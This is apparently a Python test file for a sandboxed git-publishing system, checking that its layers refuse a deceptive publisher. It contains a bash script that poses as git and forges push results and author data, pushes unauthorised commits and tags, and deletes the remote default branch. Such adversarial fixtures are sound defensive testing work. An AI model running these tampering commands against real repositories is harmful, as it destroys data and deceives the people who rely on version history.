    setup, want = ["echo 2 >>a"], {"a": text("1\n2\n")}
    everybody = ("sbx-init", "sbx-broker-courier", "sbx-broker", "sbx-proxy",
                 "sbxd")
    for place, service, served, who in (
            ("at the fetch", UPLOAD, False, everybody[:1]),
            ("at the push, before it arrived", RECEIVE, False,
             everybody[1:3]),
            ("at the push, after it arrived", RECEIVE, True,
             everybody[4:])):
        for w in everybody if whole else who:
            hold = Hold(service, served)
            killed(w, place, hold.came.is_set, ["a"], setup, want, hold)
    size = 48 << 20
    for w in ("sbxd-judge", "sbx-init", "sbxd") if whole else ["sbxd-judge"]:
        killed(w, "while it is judged", lambda: P.s.processes().get(
            "sbxd-judge"), ["big"], ["truncate -s %d big" % size],
            {"big": ("100644", bytes(size))})
    files = {"m/%d" % i: text("%d\n" % i) for i in range(1, 2001)}
    for w in ("sbx-init", "sbxd") if whole else ():
        killed(w, "while it is built", lambda: running(b"index-info"),
               list(files), ["mkdir m; for i in $(seq 2000); do echo $i "
                             ">m/$i; done"], files)


# --- the publisher lies ----------------------------------------------------------------------

# git in the publisher's sandbox; the branch says how it lies
LIAR = r"""#!/bin/bash
[ "${GIT_DIR-}" = /workspace/repo ] || exec git.real "$@"
lie=/workspace/lie
# the script is told it, git not always
v="$* $(tr '\0' '\n' </proc/$PPID/cmdline | sed -n 's,^lie-,refs/heads/&,p')"
case $v in *refs/heads/lie-*) r=${v##*refs/heads/lie-}
	echo "${r%%[ :]*}" >$lie;; esac
did() { case "$*" in *ls-remote*) echo ls;; *cat-file\ --batch) echo cat;;
	*write-tree*) echo tree;; *diff-tree*) echo diff;; *push*) echo push;;
	*rev-parse*{tree}) echo rev;;
	esac; }
url() { for a; do case $a in https:*) echo "$a"; return;; esac; done; }
spec() { for a; do case $a in *:refs/*) echo "$a"; return;; esac; done; }
u=$(url "$@") s=$(spec "$@")
id=${s%%:*} ref=${s#*:}
push() { git.real push --porcelain --no-verify "$@"; }
case "$(cat $lie 2>/dev/null) $(did "$@")" in
no-tip\ ls) git.real "$@" | grep -v refs/heads/lie-;;
no-tip\ push|old-tip\ push) push -f "$u" "$s";;
old-tip\ ls) git.real "$@" | awk '$2 == "HEAD" && !/^ref/ { h = $1 }
	$2 ~ /lie-/ { sub(/^[0-9a-f]*/, h) } { print }';;
bytes\ cat) git.real "$@" | sed 's/^author .*/author Other <o@o> 1 +0000/';;
pushed\ push) echo "$id" >/workspace/said
	printf 'To x\n*\t%s\t[new branch]\nDone\n' "$s";;
pushed\ ls) [ -f /workspace/said ] || exec git.real "$@"
	printf '%s\trefs/heads/lie-pushed\n' "$(cat /workspace/said)";;
commit\ push) c=$(git.real -c user.name=x -c user.email=x@x commit-tree \
	-m evil "$id^{tree}" </dev/null); push "$u" "$c:$ref";;
ref\ push) push "$u" "$id:refs/heads/evil";;
tag\ push) push "$u" "$s" "$id:refs/tags/evil";;
delete\ push) push "$u" :refs/heads/main;;
twice\ push) git.real "$@"; r=$?; push -f "$u" "$id^:$ref" >/dev/null 2>&1
	exit $r;;
tree\ tree) printf '100644 %s\tevil\0' "$(echo evil | git.real hash-object -w \
	--stdin)" | git.real update-index -z --index-info
	git.real "$@" | tee /workspace/tree;;
tree\ diff) ;;
tree\ rev) [ -f /workspace/tree ] || exec git.real "$@"; cat /workspace/tree;;
*) exec git.real "$@";;
esac
"""


def test_publisher_lies():
    """in place of git in its sandbox, a program that does what it likes"""
    global P    # pylint: disable=global-statement
    if os.getuid() != 0:
        tap.absent("only root can put a program in git's place",
                   "a publisher that lies")
        return
    honest, top = P, tempfile.mkdtemp(prefix="liar-")
    P = Place()
    try:
        with open(top + "/git", "w") as f:
            f.write(LIAR)
        P.start(prefix=["unshare", "-m", "sh", "-ec", "mount -t tmpfs t %s/m; "
                        "mkdir %s/m/u %s/m/w; mount -t overlay o -o "
                        "lowerdir=/usr,upperdir=%s/m/u,workdir=%s/m/w /usr; "
                        "cp /usr/bin/git /usr/bin/git.real; install -m 755 "
                        "%s/git /usr/bin/git; exec \"$@\"" % ((top,) * 6),
                        "sh"] if not os.mkdir(top + "/m") else ())
        P.sh("echo 2 >>a")
        lies()
    finally:
        P.close()
        P = honest
        shutil.rmtree(top, ignore_errors=True)


def lies():
    want = {"a": text("1\n2\n")}
    ahead = P.repo.commit({"b": "theirs\n"}, "refs/heads/lie-no-tip", P.base)
    P.repo.git("update-ref", "refs/heads/lie-old-tip", ahead)
    for lie, what, layer, word in (
            ("no-tip", "the branch is not there", "proxy", "the ref is there "
             "already, and was granted as a new one"),
            ("old-tip", "the branch is at the base", "proxy",
             "the ref is not where it was when this was granted"),
            ("bytes", "another base commit", "judge", "base"),
            ("tree", "one file more in the tree", "monitor", "disagree"),
            ("pushed", "it pushed, and did not", "monitor", "disagree"),
            ("commit", "pushes another commit", "proxy",
             "it pushes another commit than the granted one"),
            ("ref", "pushes to another ref", "proxy",
             "it changes another ref than the granted one"),
            ("tag", "pushes a tag, too", "proxy",
             "it changes more than one ref"),
            ("delete", "deletes the default branch", "proxy",
             "it deletes a ref")):
        if "all" in sys.argv or lie not in ("ref", "tag", "delete"):
            refused("a publisher that lies: " + what, layer, word, ["a"],
                    branch="lie-" + lie)
    goes("a publisher that pushes a second time", want, branch="lie-twice",
         keep=True)
    row("its second push", "refused", "proxy", "no_grant",
        P.s.wait_for(lambda: [
            r for r in P.s.journal() if r["op"] == "egress" and
            r["fields"].get("code") == "no_grant"], 10))


# --- what is held elsewhere --------------------------------------------------------------------

G7P, G7C = "guarantees/test_g7_proxy.py", "regress/test_courier.py"
GIT, HUB = "gauntlet/git.py", "regress/test_publish_hub.py"
ALL, JUDGE = "interop/test_publish.py", "regress/test_judge_publish.py"
TOOL, UNIT = "regress/test_publish_tool.py", "unit/test_publish.c"
STEPS, SCAN = "regress/test_publish_steps.py", "unit/test_scan.c"
PROXY_EVIL = '"ref", "id", "delete", "unzipped"'
ELSEWHERE = (
    # push, verdict, layer, a text of the test, the test
    ("hostile proxy: another ref, commit, deletion or gzip", "refused",
     "courier", PROXY_EVIL, G7P),
    ("hostile proxy: another repository, host or service", "refused",
     "courier", '"other", "host", "push", "service", "two", "elsewhere"', G7P),
    ("hostile proxy: a grant that there is not", "refused", "monitor",
     "a grant that there is not", G7P),
    ("hostile courier: all that its cage forbids", "refused", "kernel",
     "the cage kills it, or refuses", "guarantees/test_g7_courier.py"),
    ("a command more, the same twice, a certificate", "refused", "courier",
     "one change more", G7C),
    ("a pack without a command", "refused", "courier", "nothing and a pack",
     G7C),
    ("commands that are cut", "refused", "courier",
     "commands that are cut go nowhere", G7C),
    ("100 MiB in chunks", "lands", "courier", "100 MiB of chunks", G7C),
    ("a grant used twice in one connection", "refused", "proxy",
     "a grant, used twice in one connection", GIT),
    ("a grant used by eight at once", "one lands", "proxy",
     "a grant, used by eight at once", GIT),
    ("a grant whose sandbox has ended", "refused", "proxy",
     "the grant of a sandbox that has ended", GIT),
    ("another ref in a later chunk", "refused", "proxy",
     "the second chunk holds another", GIT),
    ("not verified", "refused", "monitor", '"without a pass"', HUB),
    ("verified by another, or another tree", "refused", "monitor",
     "(MOVED, 1001, False)", HUB),
    ("judge says it twice, or what it may not", "refused", "monitor",
     "for how in twice, ids, word, dies", HUB),
    ("publisher holds on to the base's memory", "refused", "monitor",
     "a base that can change", HUB),
    ("publisher says it pushed, unused grant", "refused", "monitor",
     '"disagree", "at %s said ok', HUB),
    ("sandbox, call or lockdown at each place", "no half state", "monitor",
     '"%s goes at %s"', HUB),
    ("broker or proxy gone at each place", "no half state", "monitor",
     "def test_broker_goes", HUB),
    ("the suite ends at each place", "no half state", "monitor",
     "def test_shutdown", HUB),
    ("no record can be written", "refused", "monitor",
     "no push without its record", HUB),
    ("force, where allow_force is off", "refused", "monitor",
     '("not_allowed", {"flags": 2})', HUB),
    ("a list that is not sealed", "refused", "monitor",
     "a list that is not sealed", HUB),
    ("trees that no git makes", "refused", "judge",
     "a file and a directory of a name", JUDGE),
    ("files that came and are not declared", "refused", "judge",
     "what is not declared", JUDGE),
    ("a secret in a link, message or author", "refused", "judge",
     "in the author", JUDGE),
    ("1,000 random trees", "are git's", "judge", "random trees", JUDGE),
    ("names of 256 bytes, 4,096 bytes, 129 deep", "refused", "judge",
     "a name of 256 bytes", UNIT),
    ("tab, backslash, escape in a name", "refused", "judge", "test_paths",
     UNIT),
    ("a workflow", "refused", "judge", '"a workflow", "sensitive"', ALL),
    ("owners", "refused", "judge", '"owners", "sensitive"', ALL),
    ("attributes", "refused", "judge", '"attributes", "sensitive"', ALL),
    ("a symbolic link", "refused", "judge", '"a link", "sensitive"', ALL),
    ("a path of git, for HFS+, for NTFS", "refused", "judge",
     "one that HFS+ takes for it", ALL),
    ("another repository", "refused", "monitor",
     '"another repository", "not_allowed"', ALL),
    ("a commit that only the sandbox has", "refused", "publisher",
     "another commit that is nowhere", ALL),
    ("a deletion by git rm", "lands", "remote", "git rm -q --cached", ALL),
    ("all unchanged", "refused", "judge", '"unchanged", "unchanged"', ALL),
    ("a comment that allows a secret", "refused", "judge",
     "a secret that a comment allows", ALL),
    ("declared files that others changed", "refused", "worker",
     "others changed a declared file", TOOL),
    ("and here they are the same", "goes on", "worker",
     "they made it as it is here", TOOL),
    ("a pull request that there is", "is found", "worker", "there is one",
     TOOL),
    ("what the scanner did not manage", "refused", "judge",
     "an expression without end", SCAN),
    ("a merge of the remote's branch", "two parents", "remote",
     'r["merge_branch"] == "main" and r["merged_in"]', ALL),
    ("a merge and nothing else", "two parents", "remote",
     "a merge and nothing else", STEPS),
    ("a forged branch of the remote, merged", "refused", "publisher",
     "a forged branch of the remote", ALL),
    ("a merge with what is not declared", "refused", "worker",
     '"merge_undeclared"', ALL),
    ("a second parent of no branch", "refused", "publisher",
     '"a second parent " + what', STEPS),
    ("a lie about the second parent's tree", "refused", "judge",
     '"a lie: " + what', JUDGE),
    ("a secret let out, and the push fails", "it stays let out", "monitor",
     "nor does a push that fails", HUB),
    ("a secret let out, and the push lands", "it is used up", "monitor",
     '"and uses it up"', HUB),
    ("an operator that refuses", "refused", "monitor",
     '"confirm", "and so it is"', HUB),
    ("a commit that cannot be signed", "refused", "monitor",
     '"sign", "the broker goes"', HUB),
    ("no base, no repository, no https", "refused", "publisher",
     "nothing but https", STEPS),
    ("an old file of 200 MiB", "is not fetched", "publisher",
     "what is too large is left out", STEPS),
)


def test_elsewhere():
    files = {}
    for what, verdict, layer, words, name in ELSEWHERE:
        if name not in files:
            path = os.path.join(os.environ["SBX_SRC"], "tests", name)
            with open(path, encoding="utf-8") as f:
                files[name] = " ".join(f.read().split())
        row(what, verdict, layer, words, words in files[name],
            test="tests/" + name)


def main():
    global P    # pylint: disable=global-statement
    try:
        P = Place()
    except egress.Unable as e:
        tap.skip(str(e), "a fake GitHub")
        tap.done()
        return 0
    try:
        P.start()
        for name, test in list(globals().items()):
            only = [x for x in sys.argv[1:] if x != "all"]
            if not name.startswith("test_") or only and name not in only:
                continue
            began = time.monotonic()
            try:
                test()
            except Exception as e:  # pylint: disable=broad-except
                ok(False, "%s: %r" % (name, e))
            print("# %s: %.1f s" % (name, time.monotonic() - began))
        ok(not P.gh.errors, "the fake made no mistake", P.gh.errors)
        wrote = [x for x in P.gh.log if x.method == "POST" and "api." in
                 x.host and not x.path.endswith("/access_tokens")]
        ok(not wrote, "no push that failed was tried by another way", wrote)
    finally:
        P.close()
    for r in ROWS:
        print("# row " + json.dumps(r, ensure_ascii=True), flush=True)
    tap.done()
    return tap.bad > 0


sys.exit(main())
